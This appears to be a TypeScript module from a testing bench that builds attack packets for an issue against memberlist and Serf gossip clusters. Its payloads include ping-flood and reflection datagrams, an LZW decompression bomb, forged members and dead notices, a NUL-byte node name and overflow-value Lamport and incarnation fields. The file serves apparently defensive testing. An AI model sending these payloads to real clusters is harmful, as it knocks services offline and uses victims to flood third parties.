/**
 * The bytes of the attacks in issue 11, built with hearsay's own encoders in memberlist's wire
 * format, so that they reach Serf agents as well as hearsay agents. None of them needs a key:
 * the bench's clusters run without encryption, as most memberlist clusters do.
 */
import { DEFAULT_VSN, type Message, type PushNodeState } from 'hearsay/core';
import {
  compressMessage,
  encodeCompound,
  encodeMessage,
  encodePacket,
  encodeSerfQuery,
  encodeSerfUserEvent,
  encodeStream,
  encodeStreamBody,
  encodeTags,
  MAX_COMPOUND_PARTS,
} from 'hearsay/wire';

const LOOPBACK = '127.0.0.1';
const plain = { crc: false, compress: false } as const;

/** One datagram of `outer` compounds of `inner` messages each, LZW-compressed to fit (memberlist reads both layers). */
function nestedCompound(message: Message, outer: number, inner: number): Uint8Array {
  const compound = encodeCompound(Array.from({ length: inner }, () => encodeMessage(message)));
  return compressMessage(encodeCompound(Array.from({ length: outer }, () => compound)));
}

/** 127 × 127 pings in one datagram: the victim acks each, to the sender (item 1). */
export function nestedPings(outer = MAX_COMPOUND_PARTS, inner = MAX_COMPOUND_PARTS): Uint8Array {
  return nestedCompound({ type: 'ping', seqNo: 1, node: '' }, outer, inner);
}

/** 127 × 127 indirect pings asking the victim to ping `target` (a reflector the attacker names) (item 1). */
export function nestedIndirectPings(target: { host: string; port: number }, outer = MAX_COMPOUND_PARTS, inner = MAX_COMPOUND_PARTS): Uint8Array {
  return nestedCompound({ type: 'indirectPing', seqNo: 1, node: 'reflected', target, nack: false }, outer, inner);
}

/** A plain push/pull stream carrying `bytes` of user state and no members: the victim holds it all before parsing it (item 2). */
export function largeStream(bytes: number): Uint8Array {
  return encodeStreamBody({ type: 'pushPull', join: false, states: [], userState: new Uint8Array(bytes) });
}

/** A compressed stream of a few KB that expands to `bytes` (item 2: past the 20 MiB limit). */
export function lzwBombStream(bytes: number): Uint8Array {
  return compressMessage(new Uint8Array(bytes));
}

/** A push/pull introducing `count` members nobody has heard of, named `prefix-i`, at `port` on loopback (items 4, 6e). */
export function forgedPushPull(count: number, port: number, prefix: string): Uint8Array {
  const states: PushNodeState[] = Array.from({ length: count }, (_, i) => ({
    profile: { name: `${prefix}-${i}`, host: LOOPBACK, port, meta: new Uint8Array(0), vsn: DEFAULT_VSN },
    incarnation: 1,
    status: 'alive',
  }));
  return encodeStream({ type: 'pushPull', join: false, states, userState: new Uint8Array(0) }, { compress: false });
}

/** An alive for `name` at incarnation `incarnation` whose tag holds a fresh 400-byte value: one meta change (item 6c). */
export function metaChange(name: string, incarnation: number, port: number): Uint8Array {
  const value = `${incarnation.toString(36)}-`.padEnd(400, String.fromCharCode(97 + (incarnation % 26)));
  const profile = { name, host: LOOPBACK, port, meta: encodeTags({ v: value }), vsn: DEFAULT_VSN };
  return encodePacket([{ type: 'alive', incarnation, profile }], plain);
}

/** A query named `name` from a member whose name holds a NUL byte, answers to `port` (item 0). */
export function nulNameQuery(name: string, port: number, ltime: number): Uint8Array {
  const query = encodeSerfQuery({
    ltime,
    id: 0x0bad,
    host: LOOPBACK,
    port,
    sourceNode: 'evil\u0000node',
    filters: [],
    flags: 0,
    relayFactor: 0,
    timeoutMs: 5_000,
    name,
    payload: new TextEncoder().encode('payload'),
  });
  return encodePacket([{ type: 'user', payload: query }], plain);
}

/** A cluster-wide switch to heartbeat gossip at the top epoch of the wire type, 2^32 − 1 (item 5). */
export function forgedProtocolSwitch(): Uint8Array {
  return encodePacket([{ type: 'protocolSwitch', protocol: 'heartbeat', epoch: 0xffffffff, origin: 'evil' }], plain);
}

/** A Serf user event at Lamport time 2^64 − 1 (item 6). */
export function forgedLamportEvent(): Uint8Array {
  const event = encodeSerfUserEvent({ ltime: 2n ** 64n - 1n, name: 'evil', payload: new Uint8Array(0), coalesce: false });
  return encodePacket([{ type: 'user', payload: event }], plain);
}

/** `dead <node> @ 4294967295`: the top incarnation, which the member can only refute by overflowing (item 6b). */
export function forgedDead(node: string): Uint8Array {
  return encodePacket([{ type: 'dead', node, incarnation: 0xffffffff, from: 'evil' }], plain);
}
